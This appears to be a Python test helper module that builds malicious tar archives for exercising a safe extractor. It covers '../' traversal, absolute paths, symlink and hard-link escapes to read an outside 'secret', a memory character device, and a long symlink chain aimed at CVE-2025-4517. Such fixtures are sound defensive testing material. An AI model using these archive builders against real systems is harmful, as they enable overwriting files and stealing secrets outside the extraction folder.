"""Archives that are made to be unpacked by somebody careless."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

TEXT = b"written"


def archive(*members: tarfile.TarInfo | tuple[tarfile.TarInfo, bytes]) -> bytes:
    """A tar with these members."""
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for each in members:
            info, data = each if isinstance(each, tuple) else (each, b"")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return target.getvalue()


def member(name: str, kind: bytes = tarfile.REGTYPE, target: str = "") -> tarfile.TarInfo:
    """One member without content."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, target, 0o755
    return info


def climbing(outside: Path) -> bytes:
    """Two folders up and into another one."""
    return archive((member(f"../{outside.name}/written"), TEXT))


def absolute(outside: Path) -> bytes:
    """By its whole path."""
    return archive((member(f"{outside}/written"), TEXT))


def through_a_link(outside: Path) -> bytes:
    """A link to a folder, and a file in that folder."""
    return archive(member("way", tarfile.SYMTYPE, str(outside)), (member("way/written"), TEXT))


def over_a_link(outside: Path) -> bytes:
    """A link to a file that is not there yet, and a file of the link's name."""
    return archive(member("file", tarfile.SYMTYPE, f"{outside}/written"), (member("file"), TEXT))


def hard_link(outside: Path) -> bytes:
    """Another name for a file outside."""
    return archive(member("stolen", tarfile.LNKTYPE, f"{outside}/secret"))


def device(outside: Path) -> bytes:
    """The machine's memory, for whoever may open it."""
    info = member("device", tarfile.CHRTYPE)
    info.devmajor, info.devminor = 1, 1
    return archive(info)


def too_long(outside: Path) -> bytes:
    """Links that lead further than a path can say (CVE-2025-4517): what resolves them gives up, the kernel does not."""
    members: list[tarfile.TarInfo | tuple[tarfile.TarInfo, bytes]] = []
    steps = "abcdefghijklmnop"
    folder = "d" * 247
    path = ""
    for step in steps:
        members.append(member(f"{path}{folder}", tarfile.DIRTYPE))
        members.append(member(f"{path}{step}", tarfile.SYMTYPE, folder))
        path += f"{folder}/"
    end = "/".join(steps) + "/" + "l" * 254
    members.append(member(end, tarfile.SYMTYPE, "../" * len(steps)))
    members.append(member("escape", tarfile.SYMTYPE, f"{end}/../{outside.name}"))
    members.append(member("stolen", tarfile.LNKTYPE, "escape/secret"))
    members.append((member("escape/written"), TEXT))
    return archive(*members)
